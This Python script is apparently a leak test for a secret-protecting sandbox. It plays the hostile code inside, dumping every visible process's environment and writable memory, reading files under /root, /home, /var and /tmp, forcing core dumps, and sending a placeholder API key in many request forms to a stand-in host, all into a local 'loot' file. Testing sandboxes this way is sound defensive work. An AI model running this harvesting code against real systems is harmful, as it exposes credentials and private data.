"""What hostile code in a box does to get at a secret: writes everything that it can see into `loot`.

Run inside, by itself; prints how much it saw of each kind.
"""

import base64
import os
import resource
import ssl
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path

WHERE = "https://web.example"
NAMES = [name for name in ("API_KEY", "FILE_KEY") if name in os.environ]
LARGEST = 1 << 20


def environment() -> Iterator[bytes]:
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            for name in ("environ", "cmdline", "maps", "status", "mountinfo"):
                yield read(entry / name)
    yield repr(dict(os.environ)).encode()


def files() -> Iterator[bytes]:
    for top in (
        "/root",
        "/home",
        "/tmp",
        "/run",
        "/etc/ringfence",
        "/var",
        "/dev/shm",
        os.getcwd(),
        os.environ["HOME"],
    ):
        for folder, _, names in os.walk(top):
            if any(part in (".venv", ".pyenv", ".rustup", ".cargo") for part in Path(folder).parts):
                continue
            for name in names:
                path = Path(folder, name)
                if path.is_file() and name != "loot":
                    yield read(path)


def memory() -> Iterator[bytes]:
    """Of every process that can be seen, ourselves included, after the requests were made."""
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            with open(entry / "mem", "rb", buffering=0) as mem:
                for line in read(entry / "maps").decode().splitlines():
                    start, end = (int(part, 16) for part in line.split(" ")[0].split("-"))
                    if " rw" in line and end - start < 64 << 20:
                        try:
                            mem.seek(start)
                            yield mem.read(end - start)
                        except (OSError, ValueError, OverflowError):
                            continue
        except OSError:
            continue


def answers() -> Iterator[bytes]:
    """The placeholder in every place, to servers that send back what they get; error pages; odd requests."""
    for name in NAMES or ["HOME"]:
        sham = os.environ[name]
        basic = base64.b64encode(f"x:{sham}".encode()).decode()
        quoted = urllib.parse.quote(sham, safe="")
        for path in ("/echo", "/error", f"/echo?k={quoted}"):
            for headers in ({"Authorization": f"Bearer {sham}"}, {"Authorization": f"Basic {basic}"}, {"X-Key": sham}):
                for body in (None, sham.encode()):
                    yield ask(path, headers, body)
            for more in ({"Accept-Encoding": "gzip"}, {"Range": "bytes=3-"}):
                yield ask(path, {"Authorization": f"Bearer {sham}", **more}, None)
        for method in ("TRACE", "OPTIONS", "HEAD", "PUT"):
            yield ask("/echo", {"Authorization": f"Bearer {sham}"}, None, method)
        for version in ("--http1.1", "--http2"):
            for upgrade in ("-i", "-iHUpgrade:h2c", "-iHConnection:authorization"):
                words = ["curl", "-sS", version, upgrade, "-H", f"Authorization: Bearer {sham}", f"{WHERE}/echo"]
                done = subprocess.run(words, capture_output=True, timeout=30, check=False)
                yield done.stdout + done.stderr


def cores() -> Iterator[bytes]:
    """Of a process that made a request, killed by a signal that writes one, if anything here lets it."""
    hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
    resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
    words = f"import urllib.request as u, os\ntry: u.urlopen('{WHERE}/')\nexcept OSError: pass\nos.abort()"
    died = os.posix_spawn(sys.executable, [sys.executable, "-c", words], os.environ)
    _, status = os.waitpid(died, 0)
    print(f"core: signal {os.WTERMSIG(status)}, written {os.WCOREDUMP(status)}, limit {hard}")
    for path in (*Path.cwd().glob("core*"), *Path("/tmp").glob("core*")):
        yield read(path, whole=True)


def ask(path: str, headers: dict[str, str], body: bytes | None, method: str | None = None) -> bytes:
    request = urllib.request.Request(WHERE + path, body, headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=20, context=ssl.create_default_context()) as answer:
            return str(answer.headers).encode() + bytes(answer.read())
    except urllib.error.HTTPError as answer:
        return str(answer.headers).encode() + answer.reason.encode() + answer.read()
    except OSError as fault:
        return str(fault).encode()


def read(path: Path, *, whole: bool = False) -> bytes:
    try:
        with open(path, "rb") as file:
            return file.read(-1 if whole else LARGEST)
    except OSError:
        return b""


def main() -> None:
    with open("loot", "wb") as loot:
        for look in (answers, environment, files, cores, memory):
            count = 0
            for seen in look():
                count += len(seen)
                loot.write(seen + b"\n")
            print(f"looked at {look.__name__}: {count}")


if __name__ == "__main__":
    main()
